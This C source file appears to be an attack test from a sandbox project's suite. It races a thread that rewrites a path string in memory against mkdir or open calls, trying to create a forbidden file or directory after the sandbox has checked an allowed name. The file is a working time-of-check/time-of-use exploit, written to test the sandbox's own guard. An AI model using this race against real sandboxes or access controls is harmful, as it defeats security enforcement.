// Copyright 2026 The sallyport Authors.
// SPDX-License-Identifier: Apache-2.0

// path_rewrite: attacks whoever reads a path from the memory of a program, judges it,
// and lets the kernel read it again. One thread creates what a string names, another
// one rewrites the string between an allowed and a forbidden name of the same length.
// Winning: the forbidden name exists. Bound: 2 seconds.
//
// usage: path_rewrite mkdir|creat ALLOWED FORBIDDEN [same length]

#include "attack.h"

static char text[4096];
static const char *names[2];

static void *rewrite(void *arg) {
	(void)arg;
	size_t n = strlen(names[0]);
	for (int i = 0; in_time(); i ^= 1)
		for (size_t k = 0; k < n; k++)
			((volatile char *)text)[k] = names[i][k];
	return 0;
}

int main(int argc, char **argv) {
	if (argc != 4 || strlen(argv[2]) != strlen(argv[3]) || strlen(argv[2]) >= sizeof text)
		return 2;
	names[0] = argv[2];
	names[1] = argv[3];
	strcpy(text, argv[2]);
	begin();
	guard();
	pthread_t t;
	pthread_create(&t, 0, rewrite, 0);
	long tries = 0;
	int won = 0, dir = strcmp(argv[1], "mkdir") == 0;
	for (; !won && in_time(); tries++) {
		if (dir) {
			mkdir(text, 0700);
			rmdir(names[0]);
		} else {
			int fd = open(text, O_CREAT | O_WRONLY, 0600);
			if (fd >= 0)
				close(fd);
			unlink(names[0]);
		}
		struct stat st;
		won = lstat(names[1], &st) == 0;
	}
	verdict(won, tries, "path-rewrite");
}
